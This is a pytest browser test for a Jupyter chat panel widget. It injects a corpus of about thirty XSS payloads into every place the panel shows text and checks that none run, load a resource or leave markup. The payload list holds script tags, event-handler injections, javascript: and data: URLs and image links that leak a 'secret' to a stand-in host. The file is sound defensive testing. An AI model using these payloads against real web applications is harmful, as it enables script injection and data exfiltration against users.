"""A corpus of XSS payloads in every place the chat panel shows text, in the real browser.

Each payload sits in model replies (whole and streamed), reasoning, tool calls, permission
requests, user text, attached notebook output (chips and message context), session titles,
model names and status lines. Nothing may run (no dialog, no ``window.__xss``), load anything
(no request but the page's own), or become markup (no injected element or handler).
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from jupyter_opencode.testing import chromium, serve_directory

from .lab import shot

pytestmark = pytest.mark.browser

REPO = Path(__file__).resolve().parents[2]
EVIL = "http://127.0.0.1:9"  # nothing listens there; any request to it is a failure
PAYLOADS = [
    "<script>window.__xss=1;alert(1)</script>",
    "<img src=x onerror=window.__xss=2;alert(2)>",
    "<svg onload=window.__xss=3>",
    "<svg><script>window.__xss=4</script></svg>",
    '<iframe src="javascript:parent.__xss=5"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=6</script>"></iframe>',
    "[click](javascript:window.__xss=7)",
    "[x](JaVaScRiPt:alert(8)) [y](&#106;avascript:alert(8)) <javascript:alert(8)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=9>",
    "<details open ontoggle=window.__xss=10>",
    "<body onload=window.__xss=11>",
    "<input autofocus onfocus=window.__xss=12>",
    '<object data="javascript:window.__xss=13"></object><embed src="javascript:alert(13)">',
    '<form action="javascript:window.__xss=15"><button id=xss-btn>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=16">',
    f'<base href="{EVIL}/">',
    f"![leak]({EVIL}/leak.png?secret=1)",
    f'<img src="{EVIL}/leak2.png">',
    f'<link rel=stylesheet href="{EVIL}/x.css">',
    f"<style>@import '{EVIL}/y.css'; body{{background:url({EVIL}/z.png)}}</style>",
    '"><img src=x onerror=window.__xss=22>',
    "`<img src=x onerror=window.__xss=23>`",
    "```html\n<script>window.__xss=24</script>\n```",
    '<div style="background:url(javascript:window.__xss=25)">x</div>',
    "[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<video><source onerror=window.__xss=28></video><audio src=x onerror=window.__xss=29>",
    "<x-y onclick=window.__xss=30 id=xss-click>click me</x-y>",
    '<svg><a xlink:href="javascript:window.__xss=31"><text y="20">x</text></a></svg>',
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=32>">',
    "<template><img src=x onerror=window.__xss=33></template>",
    "{{constructor.constructor('window.__xss=34')()}}",
    '<a href="vbscript:msgbox(35)" id=xss-vb>vb</a>',
]
# Elements and attributes no payload may leave in the panel (its own details and inputs
# carry its jo- classes).
INJECTED = (
    "script, iframe, object, embed, form, meta, base, link, style, img, video, audio,"
    " source, template, noscript, math, x-y, input:not([class^='jo-']),"
    " details:not([class^='jo-']), [onerror], [onload], [onclick], [onfocus], [ontoggle],"
    " [id^='xss']"
)
SCRIPT_URL = ("javascript:", "vbscript:", "data:")


@pytest.fixture(scope="module")
def harness() -> Iterator[str]:
    """The widget's standalone harness page, served from the repository on 127.0.0.1."""
    with serve_directory(REPO) as url:
        yield url


def _message(mid: str, role: str, content: str, **extra: Any) -> dict[str, Any]:
    return {
        "id": mid, "session_id": "sess-aaaaaaaa", "role": role, "status": "complete",
        "content": content, "error": None, "model": "fake/echo-1", "created_at": 1700000000,
        "completed_at": None, "context": [], "parts": [], **extra,
    }  # fmt: skip


def _conversation(payload: str, index: int) -> list[dict[str, Any]]:
    """Kernel -> browser messages putting ``payload`` everywhere text is shown."""
    tool = {"call_id": f"t{index}", "name": payload, "status": "completed", "title": payload,
            "input": {"command": payload}, "output": payload, "error": payload}  # fmt: skip
    context = [{"kind": "error", "label": payload, "text": payload}]
    reset = {
        "type": "reset", "has_more": False,
        "messages": [
            _message(f"u{index}", "user", payload, context=context),
            _message(f"a{index}", "assistant", f"Reply:\n\n{payload}\n\nend", error=payload,
                     parts=[{"kind": "reasoning", "text": payload}, {"kind": "tool", **tool}]),
            _message(f"s{index}", "assistant", "", status="pending"),
        ],
    }  # fmt: skip
    chunk = {"type": "chunk", "session_id": "sess-aaaaaaaa", "message_id": f"s{index}"}
    frames = {
        "type": "frames",
        "frames": [
            {**chunk, "kind": "reasoning", "delta": payload},
            {**chunk, "kind": "text", "delta": f"streamed {payload}"},
            {**chunk, "kind": "tool", "tool": {**tool, "status": "running"}},
            {**chunk, "kind": "permission",
             "permission": {"id": f"p{index}", "permission": payload, "patterns": [payload]}},
            {**chunk, "kind": "status", "status": "tool", "message": payload},
        ],
    }  # fmt: skip
    return [reset, frames]


def _traits(payload: str) -> dict[str, Any]:
    """Widget traits carrying ``payload``: title, sessions, models, connection error, chips."""
    return {
        "title": payload,
        "sessions": [{"id": "sess-aaaaaaaa", "title": payload, "updated_at": 1700000000,
                      "message_count": 2}],
        "models": [{"id": "fake/echo-1", "name": payload}],
        "connection_error": payload,
        "context": [{"id": "c1", "kind": "error", "label": payload, "size": 9, "text": payload}],
    }  # fmt: skip


def test_xss_corpus_stays_inert(harness: str) -> None:
    dialogs: list[str] = []
    foreign: list[str] = []
    errors: list[str] = []
    with chromium() as browser:
        page = browser.new_page(viewport={"width": 900, "height": 900})
        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
        page.on("request", lambda r: None if r.url.startswith(harness) else foreign.append(r.url))
        page.on("pageerror", lambda exc: errors.append(str(exc)))
        page.goto(f"{harness}/js/test/harness.html")
        page.wait_for_function("window.__ready === true")
        for index, payload in enumerate(PAYLOADS):
            for message in _conversation(payload, index):
                page.evaluate("m => window.__model.custom(m)", message)
            for name, value in _traits(payload).items():
                page.evaluate("([n, v]) => window.__model.set(n, v)", [name, value])
            page.wait_for_timeout(50)
            chat = page.locator(".jo-chat")
            assert payload.split("\n")[0][:40] in chat.inner_text() or "```" in payload
            injected = page.eval_on_selector_all(
                ".jo-chat " + ", .jo-chat ".join(INJECTED.split(", ")),
                "els => els.map(e => e.outerHTML.slice(0, 120))",
            )
            assert injected == [], (payload, injected)
            hrefs = page.eval_on_selector_all(
                ".jo-chat [href], .jo-chat [src], .jo-chat [action], .jo-chat [xlink\\:href]",
                "els => els.map(e => e.getAttribute('href') || e.getAttribute('src')"
                " || e.getAttribute('action') || '')",
            )
            assert not [h for h in hrefs if h.strip().lower().startswith(SCRIPT_URL)], hrefs
            for link in page.locator(".jo-chat .jo-body a").all():
                # A click on a link to a script URL would run it; none may be one (checked
                # above), and the panel's links open elsewhere, never in this page.
                assert (link.get_attribute("target") or "_blank") != "_self"
            if index == 0:
                shot(page, "xss-corpus")
        page.wait_for_timeout(300)
        assert page.evaluate("window.__xss") is None
        assert dialogs == [] and foreign == [], (dialogs, foreign)
        assert errors == []
    print(f"\nxss: {len(PAYLOADS)} payloads in 20 places each, none ran, loaded or injected")
    assert json.dumps(PAYLOADS)  # the corpus itself is plain data
